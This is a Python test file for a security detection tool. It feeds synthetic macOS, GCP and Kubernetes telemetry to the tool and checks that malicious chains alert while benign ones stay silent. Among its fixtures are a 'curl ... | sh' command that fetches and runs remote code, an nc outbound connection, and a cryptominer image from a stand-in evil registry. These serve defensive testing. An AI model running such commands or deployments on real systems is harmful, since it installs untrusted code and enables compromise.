#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Whole incidents as particular sensors and deliveries write them, and what is no incident in the same form."""

import base64
import json

from support import OK, SOURCE, Case, chaindet, main, records


def token(pid, version):
    return {
        "asid": 100012,
        "auid": 501,
        "egid": 20,
        "euid": 501,
        "pid": pid,
        "pidversion": version,
        "rgid": 20,
        "ruid": 501,
    }


def mac_process(pid, version, path, parent=(1, 1)):
    return {
        "audit_token": token(pid, version),
        "executable": {"path": path, "path_truncated": False},
        "group_id": pid,
        "is_es_client": False,
        "is_platform_binary": path.startswith(("/bin", "/usr")),
        "original_ppid": parent[0],
        "parent_audit_token": token(*parent),
        "ppid": parent[0],
        "responsible_audit_token": token(pid, version),
        "session_id": 1,
        "signing_id": path.rsplit("/", 1)[1],
        "team_id": None,
    }


def jamf(second, event_type, event, process=None):
    """A message of Jamf Protect's device telemetry, with its line end: elastic/integrations, packages/jamf_protect, has samples."""
    record = {
        "action_type": 1,
        "event": event,
        "event_type": event_type,
        "glob_seq_num": second,
        "host": {
            "hostname": "mbp-9",
            "ips": ["10.0.0.4"],
            "os": "Version 15.1 (Build 24B83)",
            "protectVersion": "6.0.1.11",
        },
        "metadata": {"product": "Device Telemetry Stream", "schemaVersion": "1.0", "vendor": "Jamf"},
        "time": "2026-09-21T14:13:%02d.000Z" % second,
        "uuid": "7ADBC305-732C-4A9C-B3EF-14435A500AF4",
        "version": 7,
    }
    if process:
        record["process"] = process
    return json.dumps(record).encode() + b"\n"


def jamf_run_of(program):
    """launchd starts a program, that a shell, and the shell talks to the network."""
    started = mac_process(901, 2002, program)
    shell = mac_process(902, 2004, "/bin/sh", (901, 2002))
    peer = {
        "instigator": shell,
        "remote_endpoint": {"host": "203.0.113.9", "port": 443},
        "remote_hostname": "files.example",
        "local_endpoint": {"host": "10.0.0.4", "port": 50110},
        "socket_family": 2,
        "socket_protocol": 6,
        "socket_type": 1,
    }
    return [
        jamf(2, 9, {"exec": {"args": [program], "target": started}}, mac_process(901, 2001, "/usr/libexec/xpcproxy")),
        jamf(
            3,
            9,
            {"exec": {"args": ["sh", "-c", "curl -s https://files.example/a | sh"], "target": shell}},
            mac_process(902, 2003, program, (901, 2002)),
        ),
        jamf(4, 9005, {"network_connect": peer}),
    ]


class JamfProtect(Case):
    SAFARI = mac_process(500, 900, "/Applications/Safari.app/Contents/MacOS/Safari")

    def download(self, name):
        place = {"new_path": {"dir": {"path": "/Users/ann/Downloads"}, "filename": name}}
        return jamf(0, 13, {"create": {"destination_type": 1, "destination": place}}, self.SAFARI)

    def test_download_that_is_let_past_gatekeeper_and_run_is_an_alert(self):
        allowed = jamf(
            1,
            144,
            {"gatekeeper_user_override": {"file": {"path": "/Users/ann/Downloads/viewer"}, "file_type": 1}},
            mac_process(300, 700, "/usr/libexec/syspolicyd"),
        )
        log = self.write("log.json", [self.download("viewer"), allowed] + jamf_run_of("/Users/ann/Downloads/viewer"))
        (alert,) = records(chaindet("run", "--format", "jsonl", log).stdout)
        self.assertEqual((alert["analytic"], alert["host"], alert["level"]), ("AN1316", "mbp-9", "critical"))
        self.assertEqual([s["stage"] for s in alert["stages"]], ["open", "artifact", "spawn", "egress"])

    def test_installed_app_that_does_the_same_is_silent(self):
        log = self.write(
            "log.json",
            [self.download("report.pdf")] + jamf_run_of("/Applications/JamfCheck.app/Contents/MacOS/JamfCheck"),
        )
        result = chaindet("run", "--format", "jsonl", "--near-misses", log)
        self.assert_status(result, OK)
        self.assertEqual(records(result.stdout), [])
        self.assertIn(b"4 recognised", result.stderr)


class PubSub(Case):
    def test_log_entries_that_were_pushed_tell_what_the_entries_tell(self):
        sample = (SOURCE / "tests" / "sources" / "samples" / "gcp-audit-and-flows.txt").read_text(encoding="utf-8")
        entries = [line.encode() + b"\n" for line in sample.split("--- in\n")[1].split("--- out\n")[0].splitlines()]
        pushed = [
            json.dumps(
                {
                    "message": {"data": base64.b64encode(e).decode(), "messageId": str(i)},
                    "subscription": "projects/lab-1/subscriptions/logs",
                }
            ).encode()
            + b"\n"
            for i, e in enumerate(entries)
        ]
        found = []
        for lines in entries, pushed:
            result = chaindet("run", "--format", "jsonl", "--near-misses", self.write("log.json", lines))
            self.assert_status(result, OK)
            found.append([(r["id"], r["analytic"], r["level"]) for r in records(result.stdout)])
        self.assertIn("AN1318", [f[1] for f in found[0]])
        self.assertEqual(found[0], found[1])


def pod_audit(second, **more):
    record = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": "a%d" % second,
        "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/shop/pods",
        "sourceIPs": ["10.0.0.2"],
        "requestReceivedTimestamp": "2026-09-21T14:13:%02d.000000Z" % second,
        **more,
    }
    return json.dumps(record).encode() + b"\n"


class KubernetesAudit(Case):
    CONNECT = (
        json.dumps(
            {
                "output": "x",
                "priority": "Notice",
                "rule": "Outbound",
                "time": "2026-09-21T14:13:31Z",
                "output_fields": {
                    "evt.type": "connect",
                    "fd.name": "10.42.3.10:40000->203.0.113.9:443",
                    "proc.name": "nc",
                    "container.id": "cd" * 6,
                },
            }
        ).encode()
        + b"\n"
    )

    def pod(self, image):
        """A controller's pod of which only the answers were kept: its name is the server's."""
        meta = {"name": "web-7d4b9-x2x9k", "generateName": "web-7d4b9-", "namespace": "shop", "uid": "6a02"}
        running = {
            "podIP": "10.42.3.10",
            "containerStatuses": [
                {
                    "containerID": "containerd://" + "cd" * 32,
                    "image": image,
                    "name": "web",
                    "state": {"running": {"startedAt": "2026-09-21T14:13:25Z"}},
                }
            ],
        }
        return [
            pod_audit(
                20,
                verb="create",
                user={"username": "system:serviceaccount:kube-system:replicaset-controller"},
                objectRef={"resource": "pods", "namespace": "shop"},
                responseStatus={"code": 201},
                responseObject={"metadata": meta, "spec": {"containers": [{"name": "web", "image": image}]}},
            ),
            pod_audit(
                26,
                verb="patch",
                user={"username": "system:node:n1"},
                objectRef={"resource": "pods", "namespace": "shop", "name": meta["name"], "subresource": "status"},
                responseStatus={"code": 200},
                responseObject={"metadata": meta, "status": running},
            ),
            self.CONNECT,
        ]

    def test_pod_that_only_the_answers_tell_of_is_an_alert(self):
        log = self.write("log.json", self.pod("registry.evil.example/tools/miner:1"))
        (alert,) = records(chaindet("run", "--format", "jsonl", log).stdout)
        self.assertEqual(alert["analytic"], "AN1317")
        self.assertEqual([s["stage"] for s in alert["stages"]], ["artifact", "spawn", "egress"])

    def test_pod_of_an_official_image_is_silent(self):
        result = chaindet("run", "--format", "jsonl", self.write("log.json", self.pod("docker.io/library/nginx:1.27")))
        self.assert_status(result, OK)
        self.assertEqual(records(result.stdout), [])
        self.assertIn(b"3 recognised", result.stderr)


if __name__ == "__main__":
    main()
